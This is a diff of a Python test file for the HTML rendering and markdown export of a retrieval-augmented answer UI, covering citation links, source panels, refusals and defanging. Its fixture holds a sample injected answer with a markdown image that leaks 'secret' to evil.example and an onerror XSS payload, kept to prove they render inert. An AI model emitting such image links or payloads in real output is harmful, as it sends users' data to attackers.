@@ -1,5 +1,12 @@
 from rag.models import Answer, Citation, Passage
-from ui.render import answer_html, defang, draft_html, sources_html
+from ui.render import (
+    answer_html,
+    defang,
+    draft_html,
+    panel_html,
+    question_html,
+    sources_html,
+)
 
 INJECTED = ("GPT-4o is fast ![pixel](http://evil.example/leak.png?q=secret) [1]. "
             "See [details](https://evil.example/more) or www.evil.example and <img src=x onerror=alert(1)> [2].")
@@ -21,10 +28,10 @@ def test_generated_images_links_and_html_are_inert():
 
 
 def test_markers_become_links_to_their_source_cards():
-    rendered = answer_html(_answer("Fast [1]. Cheap [2]."))
-    assert '<a class="rag-cite" href="#rag-src-1" title="Paper &lt;1&gt;">[1]</a>' in rendered
-    panel = sources_html(_answer("Fast [1]. Cheap [2]."), {"d1": "GPT-4o is fast. More text."})
-    assert "id='rag-src-1'" in panel and "id='rag-src-2'" in panel
+    rendered = answer_html(_answer("Fast [1]. Cheap [2]."), turn=3)
+    assert '<a class="rag-cite" href="#rag-src-3-1" title="Paper &lt;1&gt;">[1]</a>' in rendered
+    panel = sources_html(_answer("Fast [1]. Cheap [2]."), {"d1": "GPT-4o is fast. More text."}, turn=3)
+    assert "id='rag-src-3-1'" in panel and "id='rag-src-3-2'" in panel and "Answer 4: “q”" in panel
     assert "<mark>GPT-4o</mark>" in panel and "Paper &lt;1&gt;" in panel
 
 
@@ -40,3 +47,33 @@ def test_refusal_looks_different_and_shows_what_came_closest():
 def test_defang_names_the_host_it_removed():
     assert defang("![a](http://x.test/p.png)") == "[image from x.test removed]"
     assert defang("[a](https://y.test/z)") == "a (link to y.test removed)"
+
+
+def test_every_answer_keeps_its_sources_and_only_the_latest_is_shown():
+    blocks = [sources_html(_answer("Fast [1]."), {}, turn=n) for n in range(3)]
+    panel = panel_html(blocks)
+    assert panel.count("class='rag-sources rag-hidden' id='rag-ans-") == 2
+    assert "class='rag-sources' id='rag-ans-2'" in panel and all(f"rag-src-{n}-1" in panel for n in range(3))
+
+
+def test_a_refusal_lists_each_paper_once_best_first_below_its_threshold():
+    answer = _answer("The corpus does not contain an answer to this question.", refused=True)
+    answer.closest = [Passage(doc_id=d, title=d, source="s.txt", text="x", start=0, end=1, similarity=s)
+                      for d, s in [("A", 0.30), ("B", 0.41996), ("A", 0.35), ("C", 0.1)]]
+    rendered = answer_html(answer, threshold=0.42)
+    assert rendered.index(">B <") < rendered.index(">A <") < rendered.index(">C <") and rendered.count(">A <") == 1
+    assert "similarity 0.419, below the 0.420 needed" in rendered  # never "0.42" against 0.42
+    assert "similarity 0.350" in rendered
+
+
+def test_a_long_question_is_folded():
+    assert "<details>" in question_html("why " * 200) and "<details>" not in question_html("Why?")
+
+
+def test_the_markdown_export_numbers_references_and_is_inert():
+    from ui.export import answer_markdown
+
+    text = answer_markdown(_answer(INJECTED), 0)
+    assert text.startswith("## 1. q") and "References:" in text
+    assert "[1] Paper <1> — s.txt, characters 0–15: “GPT-4o is fast.”" in text
+    assert "](http" not in text and "http://" not in text
